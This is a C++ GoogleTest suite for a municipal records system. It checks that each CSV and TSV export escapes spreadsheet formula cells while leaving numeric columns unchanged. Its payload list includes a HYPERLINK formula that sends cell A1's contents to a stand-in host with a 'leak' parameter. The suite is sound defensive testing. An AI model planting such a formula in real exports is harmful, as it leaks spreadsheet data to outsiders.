// Issue 17, deliverable 3: every CSV and TSV the system writes guards formula cells (the OWASP
// rule: a leading ' before =, +, -, @, tab, CR), number columns keep their numbers. The review's
// payloads go through every writer: the published result (HTTP and the command line), the
// open-data files (UTF-8 and CP932), the staff's workation applications.csv, the facility
// register and projection, and the plan's KPI CSV.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>

#include "app/cli.h"
#include "app/modules.h"
#include "consultation/publication.h"
#include "consultation/results_import.h"
#include "consultation/workflow.h"
#include "core/csv.h"
#include "core/date.h"
#include "http/testing.h"
#include "partners/codes.h"
#include "partners/store.h"
#include "plan/actuals.h"
#include "storage/testing.h"

namespace civicdesk::app {
namespace {

using http::testing::ClientResponse;
using http::testing::Send;
using http::testing::TestSite;
using Rows = std::vector<std::vector<std::string>>;

const std::vector<std::string> kPayloads = {
    "=HYPERLINK(\"http://x?leak=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"};
// What a tab-separated published result can carry (a cell cannot hold a tab or a line break).
const std::vector<std::string> kPrintablePayloads(kPayloads.begin(), kPayloads.begin() + 4);

Rows CsvRows(std::string body) {
  if (body.rfind("\xEF\xBB\xBF", 0) == 0) body.erase(0, 3);
  std::istringstream input(body);
  Rows rows;
  Status read = ForEachCsvRow(input, [&rows](std::vector<std::string>& cells, int64_t) {
    rows.push_back(cells);
    return Status::Ok();
  });
  EXPECT_TRUE(read.ok()) << read.message();
  return rows;
}

Rows TsvRows(const std::string& body) {
  Rows rows;
  std::istringstream lines(body);
  std::string line;
  while (std::getline(lines, line)) {
    std::vector<std::string> cells;
    size_t start = 0;
    for (size_t tab = line.find('\t'); tab != std::string::npos; tab = line.find('\t', start)) {
      cells.push_back(line.substr(start, tab - start));
      start = tab + 1;
    }
    cells.push_back(line.substr(start));
    rows.push_back(cells);
  }
  return rows;
}

// Every payload is in some cell with a leading ', and none is in a cell as it is.
void ExpectGuarded(const Rows& rows, const std::vector<std::string>& payloads, bool tsv,
                   const std::string& what) {
  std::set<std::string> cells;
  for (const auto& row : rows) cells.insert(row.begin(), row.end());
  for (const std::string& payload : payloads) {
    std::string raw = payload;
    if (tsv)
      for (char& c : raw) c = (c == '\t' || c == '\r') ? ' ' : c;
    EXPECT_TRUE(cells.count("'" + raw)) << what << ": no guarded cell for " << payload;
    EXPECT_FALSE(cells.count(raw)) << what << ": written raw: " << payload;
  }
}

// The cell of `column` in the row whose `key_column` holds `key` (row 0 is the header).
std::string CellOf(const Rows& rows, const std::string& column, const std::string& key_column,
                   const std::string& key) {
  if (rows.empty()) return "<no rows>";
  auto index = [&](const std::string& name) {
    return static_cast<size_t>(std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin());
  };
  const size_t c = index(column), k = index(key_column);
  for (const auto& row : rows)
    if (k < row.size() && c < row.size() && row[k] == key) return row[c];
  return "<no row " + key + ">";
}

std::string ReadFile(const std::string& path) {
  std::ifstream file(path, std::ios::binary);
  std::ostringstream bytes;
  bytes << file.rdbuf();
  return bytes.str();
}

// Seed 000 with the printable payloads as the opinions of its first rows, under another title.
std::string PayloadResultFile() {
  std::istringstream lines(ReadFile(std::string(CIVICDESK_SOURCE_DIR) +
                                    "/data/minato/consultations/kankyo-kihon-keikaku-soan.txt"));
  static const std::regex kRow("^[0-9]+\\t.*");
  std::string out, line;
  size_t replaced = 0;
  bool titled = false;
  while (std::getline(lines, line)) {
    if (!titled && !line.empty()) {
      line = "数式試験" + line;
      titled = true;
    } else if (replaced < kPrintablePayloads.size() && std::regex_match(line, kRow) &&
               std::count(line.begin(), line.end(), '\t') == 7) {
      const size_t first = line.find('\t'), second = line.find('\t', first + 1),
                   third = line.find('\t', second + 1);
      line = line.substr(0, second + 1) + kPrintablePayloads[replaced++] + line.substr(third);
    }
    out += line + "\n";
  }
  EXPECT_EQ(replaced, kPrintablePayloads.size());
  return out;
}

class FormulaInjectionTest : public ::testing::TestWithParam<std::string> {
 protected:
  FormulaInjectionTest() : site_(GetParam(), AllModules()) {}
  void SetUp() override { CIVICDESK_SKIP_IF_UNAVAILABLE(site_); }

  ClientResponse Get(const std::string& target) {
    ClientResponse response = Send(site_.port(), "GET", target);
    EXPECT_EQ(response.status, 200) << target << ": " << response.body.substr(0, 300);
    return response;
  }

  void Update(const std::string& sql, const std::vector<storage::Value>& params) {
    Result<storage::QueryResult> done = site_.database().Query(sql, params);
    ASSERT_TRUE(done.ok()) << sql << ": " << done.status().message();
  }

  TestSite site_;
};

TEST_P(FormulaInjectionTest, PublishedResultOverHttpAndOpenDataIsGuarded) {
  Result<consultation::ImportReport> imported =
      consultation::ImportResults(site_.database(), PayloadResultFile(), consultation::Actor{});
  ASSERT_TRUE(imported.ok()) << imported.status().message();
  // Published as the command line's `publish` does.
  Status published = consultation::Publish(site_.database(), imported->consultation_id,
                                           consultation::Actor{0, "cli"});
  ASSERT_TRUE(published.ok()) << published.message();
  const std::string id = std::to_string(imported->consultation_id);
  ExpectGuarded(CsvRows(Get("/consultations/" + id + "/result.csv").body), kPrintablePayloads,
                false, "result.csv");
  ExpectGuarded(TsvRows(Get("/consultations/" + id + "/result.tsv").body), kPrintablePayloads, true,
                "result.tsv");
  const std::string dataset = "/opendata/files/consultation-" + id + "-result.csv";
  ExpectGuarded(CsvRows(Get(dataset).body), kPrintablePayloads, false, "open-data CSV");
  ExpectGuarded(CsvRows(Get(dataset + "?encoding=cp932").body), kPrintablePayloads, false,
                "open-data CSV in CP932");
}

// The writer the command line and the web share, with every payload (tabs and CRs included).
TEST(FormulaInjection, PublishedTableWriterGuardsEveryPayload) {
  std::vector<consultation::PublishedRow> rows;
  for (const std::string& payload : kPayloads) {
    consultation::PublishedRow row;
    row.number = static_cast<int>(rows.size()) + 1;
    row.fields = payload;
    row.opinion = payload;
    row.response = payload;
    row.status = 5;
    rows.push_back(row);
  }
  std::ostringstream csv, tsv;
  consultation::WriteTable(rows, consultation::TableFormat::kCsv, csv);
  consultation::WriteTable(rows, consultation::TableFormat::kTsv, tsv);
  ExpectGuarded(CsvRows(csv.str()), kPayloads, false, "published CSV");
  ExpectGuarded(TsvRows(tsv.str()), kPayloads, true, "published TSV");
  EXPECT_EQ(CsvRows(csv.str())[1][0], "1");
}

TEST_P(FormulaInjectionTest, WorkationApplicationsCsvIsGuarded) {
  partners::Application application;
  application.fiscal_year = 2023;
  application.business_name = "株式会社数式試験";
  application.corporate_number =
      std::to_string(partners::CorporateNumberCheckDigit("010401000077")) + "010401000077";
  application.address = "東京都港区芝公園1-5-25";
  application.destination_code = "015199";
  application.staff_count = 3;
  application.planned_nights = 2;
  application.email = "a@example.jp";
  Result<partners::Application> submitted =
      partners::SubmitApplication(site_.database(), application, MakeDate(2023, 5, 10));
  ASSERT_TRUE(submitted.ok()) << submitted.status().message();
  Update(
      "UPDATE workation_application SET business_name = ?, representative = ?, address = ?,"
      " email = ?, eligibility_note = ?, report_url = ?, staff_count = -5 WHERE id = ?",
      {kPayloads[0], kPayloads[1], kPayloads[2], kPayloads[3], kPayloads[4], kPayloads[5],
       submitted->id});
  http::testing::Browser admin = http::testing::SignedInBrowser(site_, "kanri", http::Role::kAdmin);
  ClientResponse csv = admin.Get("/staff/workation/applications.csv?year=2023");
  ASSERT_EQ(csv.status, 200) << csv.body.substr(0, 300);
  Rows rows = CsvRows(csv.body);
  ExpectGuarded(rows, kPayloads, false, "applications.csv");
  EXPECT_EQ(CellOf(rows, "staff_count", "number", submitted->number), "-5")
      << "a number column keeps -5 raw";
}

TEST_P(FormulaInjectionTest, FacilityRegisterAndProjectionCsvAreGuarded) {
  Result<storage::QueryResult> ids =
      site_.database().Query("SELECT id FROM facility ORDER BY id LIMIT 2");
  ASSERT_TRUE(ids.ok());
  ASSERT_EQ(ids->rows.size(), 2u);
  const std::string first = storage::AsText(ids->rows[0][0]);
  Update(
      "UPDATE facility SET name = ?, district = ?, structure = ?, department = ?, section = ?"
      " WHERE id = ?",
      {kPayloads[0], kPayloads[1], kPayloads[2], kPayloads[3], kPayloads[4], first});
  Update("UPDATE facility SET name = ? WHERE id = ?",
         {kPayloads[5], storage::AsText(ids->rows[1][0])});
  Rows registry = CsvRows(Get("/facilities/registry.csv").body);
  ExpectGuarded(registry, kPayloads, false, "registry.csv");
  EXPECT_EQ(CellOf(registry, "name", "id", first), "'" + kPayloads[0]);
  Rows projection = CsvRows(Get("/facilities/projection.csv?by=district").body);
  ExpectGuarded(projection, {kPayloads[1]}, false, "projection.csv by district");
  ASSERT_GT(projection.size(), 1u);
  EXPECT_TRUE(IsPlainNumber(projection[1][0]) && IsPlainNumber(projection[1][2]));
}

TEST_P(FormulaInjectionTest, PlanKpiCsvIsGuardedAndKeepsNegativeValues) {
  Result<storage::QueryResult> codes =
      site_.database().Query("SELECT code FROM plan_kpi ORDER BY code LIMIT 6");
  ASSERT_TRUE(codes.ok());
  ASSERT_EQ(codes->rows.size(), kPayloads.size());
  for (size_t i = 0; i < kPayloads.size(); ++i)
    Update("UPDATE plan_kpi SET name = ? WHERE code = ?", {kPayloads[i], codes->rows[i][0]});
  Status recorded = plan::SetKpiActual(site_.database(), "24-2-1", 2023, 1000, kPayloads[0],
                                       plan::KpiEditor{"cli", "", ""});
  ASSERT_TRUE(recorded.ok()) << recorded.message();
  // Entry refuses negative values; a stored one (a change from the year before, say) is a
  // number all the same and stays raw in a number column.
  Update("UPDATE plan_kpi_actual SET value = -5 WHERE code = ? AND fiscal_year = 2023",
         {std::string("24-2-1")});
  Rows kpis = CsvRows(Get("/plan/kpis.csv").body);
  ExpectGuarded(kpis, kPayloads, false, "kpis.csv");
  EXPECT_EQ(CellOf(kpis, "latest_value", "code", "24-2-1"), "-5");
  Rows actuals = CsvRows(Get("/opendata/files/plan-kpi-actuals.csv").body);
  ExpectGuarded(actuals, {kPayloads[0]}, false, "plan-kpi-actuals.csv (source)");
  EXPECT_EQ(CellOf(actuals, "value", "code", "24-2-1"), "-5");
  Rows cp932 = CsvRows(Get("/opendata/files/plan-kpis.csv?encoding=cp932").body);
  ExpectGuarded(cp932, kPayloads, false, "plan-kpis.csv in CP932");
}

INSTANTIATE_TEST_SUITE_P(Backends, FormulaInjectionTest,
                         ::testing::ValuesIn(storage::testing::BackendNames()));

// The command line: import a result holding the payloads, publish it as CSV and TSV.
class FormulaInjectionCliTest : public ::testing::TestWithParam<std::string> {
 protected:
  FormulaInjectionCliTest() : database_(GetParam()) {}
  void SetUp() override { CIVICDESK_SKIP_IF_UNAVAILABLE(database_); }
  storage::testing::TestDatabase database_;
};

int RunWords(std::vector<std::string> words, std::string& out, std::string& err) {
  std::istringstream in;
  std::ostringstream out_stream, err_stream;
  const int code = RunCli(words, in, out_stream, err_stream);
  out = out_stream.str();
  err = err_stream.str();
  return code;
}

TEST_P(FormulaInjectionCliTest, PublishWritesGuardedCsvAndTsv) {
  std::string out, err;
  ASSERT_EQ(RunWords({"db", "migrate", "--db", database_.url()}, out, err), 0) << err;
  const std::string path = (std::filesystem::temp_directory_path() /
                            ("civicdesk-formula-" + std::to_string(::getpid()) + ".txt"))
                               .string();
  {
    std::ofstream file(path, std::ios::binary);
    file << PayloadResultFile();
  }
  ASSERT_EQ(RunWords({"import", "results", path, "--db", database_.url()}, out, err), 0) << err;
  std::remove(path.c_str());
  const std::string id = out.substr(0, out.find('\n'));
  ASSERT_EQ(RunWords({"publish", id, "--format", "csv", "--db", database_.url()}, out, err), 0)
      << err;
  ExpectGuarded(CsvRows(out), kPrintablePayloads, false, "publish --format csv");
  ASSERT_EQ(RunWords({"publish", id, "--format", "tsv", "--db", database_.url()}, out, err), 0)
      << err;
  ExpectGuarded(TsvRows(out), kPrintablePayloads, true, "publish --format tsv");
}

INSTANTIATE_TEST_SUITE_P(Backends, FormulaInjectionCliTest,
                         ::testing::ValuesIn(storage::testing::BackendNames()));

}  // namespace
}  // namespace civicdesk::app
